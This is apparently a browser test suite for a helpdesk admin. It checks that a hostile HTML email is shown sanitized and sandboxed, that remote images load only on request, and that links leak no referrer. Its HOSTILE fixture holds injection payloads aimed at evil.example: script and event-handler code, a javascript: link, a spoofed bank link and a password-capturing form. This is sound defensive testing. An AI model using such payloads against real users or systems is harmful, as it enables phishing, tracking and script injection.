"""The formatting of a hostile mail in a real browser: readable, harmless, and silent."""

from typing import Any

import pytest

from tests.browser.chromium import MARKS, Browser
from tests.sla import world
from tests.sla.desk_world import NOW, Desk
from tests.tickets.pictures import png
from tickets.models import Attachment, Message

pytestmark = MARKS
LIST = "/admin/tickets/ticket/"
REMOTE = "https://tracker.example/logo.png"
HOSTILE = f"""<html><head><title>x</title><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import url(https://evil.example/a.css);
body {{ background: url(https://evil.example/b) }}</style>
<link rel="stylesheet" href="https://evil.example/c.css"></head>
<body onload="parent.document.title='owned'" background="https://evil.example/d.png">
<p>Please look at the <b>table</b>.</p>
<script>parent.document.title = "owned"; fetch("https://evil.example/e")</script>
<img src="https://evil.example/f.gif" onerror="parent.document.title='owned'" width="1" height="1">
<img src="{REMOTE}" alt="our logo" width="40" height="20">
<img src="cid:shot@acme" alt="the shot" width="60" id="shot">
<svg onload="parent.document.title='owned'"><image href="https://evil.example/g"/></svg>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">OVER ALL</div>
<a href="javascript:parent.document.title='owned'">bad link</a>
<a href="https://acme.example/page" id="good">good link</a>
<a href="https://evil.example/login">www.bank.example</a>
<form action="https://evil.example/h"><input name="password" autofocus><button>Pay</button></form>
<iframe src="https://evil.example/i"></iframe><object data="https://evil.example/j"></object>
<video src="https://evil.example/k" autoplay></video>
<div style="background-image:url('https://evil.example/l')">end of mail</div></body></html>"""


@pytest.fixture
def letter(desk: Desk) -> Message:
    """A hostile mail in the ticket that is missed, with an image of its own."""
    message = desk.tickets["missed"].messages.earliest("pk")
    Message.objects.filter(pk=message.pk).update(html=HOSTILE)
    content = png(80, 50)
    Attachment.objects.create(
        message=message,
        name="shot.png",
        media_type="image/png",
        size=len(content),
        content=content,
        content_id="shot@acme",
        is_inline=True,
    )
    return message


def open_original(browser: Browser, message: Message) -> Any:
    """The frame with the original formatting, open."""
    page = browser.page
    browser.go(f"{LIST}{message.ticket_id}/change/")
    page.click(f"#original-{message.pk} > summary")
    frame = frame_of(browser, message)
    frame.wait_for_selector("text=Please look at the")
    return frame


def frame_of(browser: Browser, message: Message) -> Any:
    return browser.page.wait_for_selector(f"#original-{message.pk} iframe").content_frame()


def wait_for_width(place: Any, selector: str, width: int) -> None:
    """Until an image is there; `wait_for_function` would need `eval`, which our policy refuses."""
    place.wait_for_selector(selector)
    for _ in range(50):
        if place.evaluate(f"document.querySelector('{selector}').naturalWidth") == width:
            return
        place.wait_for_timeout(100)
    pytest.fail(f"{selector} never was {width} pixels wide")


def test_the_frame_loads_only_when_somebody_opens_it(browser: Browser, letter: Message) -> None:
    asked: list[str] = []
    browser.page.on("request", lambda request: asked.append(request.url))
    browser.go(f"{LIST}{letter.ticket_id}/change/")
    browser.page.wait_for_timeout(500)
    assert not [url for url in asked if "/original/" in url]
    browser.page.click(f"#original-{letter.pk} > summary")
    browser.page.frame_locator("iframe").locator("text=Please look").wait_for()
    assert [url for url in asked if "/original/" in url]


def test_a_hostile_mail_is_readable_and_does_nothing(browser: Browser, letter: Message) -> None:
    frame = open_original(browser, letter)
    browser.page.wait_for_timeout(500)
    text = frame.locator("body").inner_text()
    assert "Please look at the table." in text
    assert "end of mail" in text
    assert "leads to evil.example" in text
    assert "our logo" in text
    assert frame.evaluate("document.querySelectorAll('script,form,input,iframe').length") == 0
    # A frame without an origin of its own cannot reach the page, not even if a script ran.
    assert frame.evaluate("self.origin") == "null"
    assert "owned" not in browser.page.title()
    fixed = "getComputedStyle([...document.querySelectorAll('div')][0]).position"
    assert frame.evaluate(fixed) == "static"
    assert browser.foreign == []


def test_the_mails_own_image_is_shown(browser: Browser, letter: Message) -> None:
    frame = open_original(browser, letter)
    wait_for_width(frame, 'img[alt="the shot"]', 80)


def test_remote_images_come_on_a_click_and_are_forgotten(browser: Browser, letter: Message) -> None:
    browser.answers[REMOTE] = ("image/png", png(40, 20))
    browser.answers["https://evil.example/f.gif"] = ("image/png", png())
    frame = open_original(browser, letter)
    assert browser.foreign == []
    referrers: list[str | None] = []
    browser.page.on(
        "request",
        lambda request: (
            referrers.append(request.headers.get("referer")) if "example" in request.url else None
        ),
    )
    browser.page.click("text=Show remote images")
    frame.wait_for_selector('img[alt="our logo"]')
    wait_for_width(frame, 'img[alt="our logo"]', 40)
    assert sorted(browser.foreign) == ["https://evil.example/f.gif", REMOTE]
    assert set(referrers) == {None}
    browser.foreign.clear()
    open_original(browser, letter)
    browser.page.wait_for_timeout(300)
    assert browser.foreign == []


def test_a_link_opens_a_page_of_its_own_and_tells_nobody_where_from(
    browser: Browser, letter: Message
) -> None:
    target = "https://acme.example/page"
    browser.answers[target] = ("text/html", b"<p>the page</p>")
    frame = open_original(browser, letter)
    with browser.context.expect_page() as opened:
        frame.click("text=good link")
    # Playwright itself listens to the mouse in every frame; this one refuses even that, aloud.
    browser.complaints[:] = [said for said in browser.complaints if "allow-scripts" not in said]
    opened.value.wait_for_selector("text=the page")
    assert opened.value.evaluate("[document.referrer, String(window.opener), origin]") == [
        "",
        "null",
        "https://acme.example",
    ]


def test_a_refresh_leaves_an_open_frame_alone(browser: Browser, letter: Message) -> None:
    frame = open_original(browser, letter)
    frame.evaluate("document.body.dataset.mine = '1'")
    with browser.page.expect_response(lambda got: got.url.endswith("/change/")):
        browser.page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    browser.page.wait_for_timeout(300)
    again = frame_of(browser, letter)
    assert again.evaluate("document.body.dataset.mine") == "1"


def test_the_original_opens_in_a_tab_of_its_own_and_is_caged_there_too(
    browser: Browser, letter: Message
) -> None:
    browser.go(f"{LIST}{letter.ticket_id}/message/{letter.pk}/original/")
    assert browser.page.evaluate("self.origin") == "null"
    assert "Please look at the table." in browser.page.locator("body").inner_text()


def test_a_picture_opens_in_a_tab_of_its_own(browser: Browser, desk: Desk) -> None:
    message = desk.tickets["pro"].messages.earliest("pk")
    content = png(300, 200)
    file = Attachment.objects.create(
        message=message, name="a.png", media_type="image/png", size=len(content), content=content
    )
    page = browser.page
    browser.go(f"{LIST}{message.ticket_id}/change/")
    wait_for_width(page, ".pictures img", 300)
    with browser.context.expect_page() as opened:
        page.click(".pictures img")
    opened.value.wait_for_load_state()
    assert opened.value.url.endswith(f"/attachment/{file.pk}/image/")
    assert opened.value.evaluate("document.images[0].naturalWidth") == 300


def test_files_go_with_an_answer_and_large_ones_are_refused_at_once(
    browser: Browser, desk: Desk, tmp_path: Any, settings: Any
) -> None:
    settings.ANSWER_MAX_BYTES = 4_000
    small, large = tmp_path / "capture.png", tmp_path / "large.bin"
    small.write_bytes(png(20, 20))
    large.write_bytes(b"x" * 3_000)
    page = browser.page
    browser.go(f"{LIST}{desk.tickets['pro'].pk}/change/")
    page.fill("#answer-text", "See the picture.")
    page.set_input_files("#answer-attachments", str(large))
    page.click("text=Send answer")
    assert page.evaluate("document.querySelector('#answer-attachments').validity.customError")
    page.set_input_files("#answer-attachments", [str(small)])
    page.click("text=Send answer")
    page.wait_for_selector("text=Answered. It is on its way to the customer.")
    wait_for_width(page, ".pictures img", 20)
    assert Attachment.objects.get(message__body="See the picture.").name == "capture.png"


def test_earlier_messages_come_by_a_link(browser: Browser, desk: Desk) -> None:
    ticket = desk.tickets["pro"]
    Message.objects.bulk_create(
        Message(
            ticket=ticket,
            author_kind="customer",
            channel="email",
            body=f"Number {number}.",
            reply=f"Number {number}.",
            at=NOW,
            body_sha256="0" * 64,
        )
        for number in range(60)
    )
    page = browser.page
    browser.go(f"{LIST}{ticket.pk}/change/")
    page.click("text=Show earlier messages (11 more)")
    page.wait_for_selector("text=Back to the newest messages")
    assert page.locator("details.message").count() == 11
    assert page.locator("#answer-text").count() == 0
    page.click("text=Back to the newest messages")
    page.wait_for_selector("#answer-text")
    assert page.locator("details.message").count() == 50
    world.deliver(
        world.raw_mail(
            "One more.", subject=f"Re: [{ticket.reference}]", sender="Bob <bob@beta.example>"
        ),
        NOW,
    )
    page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    page.wait_for_selector("#conversation .text:has-text('One more.')")
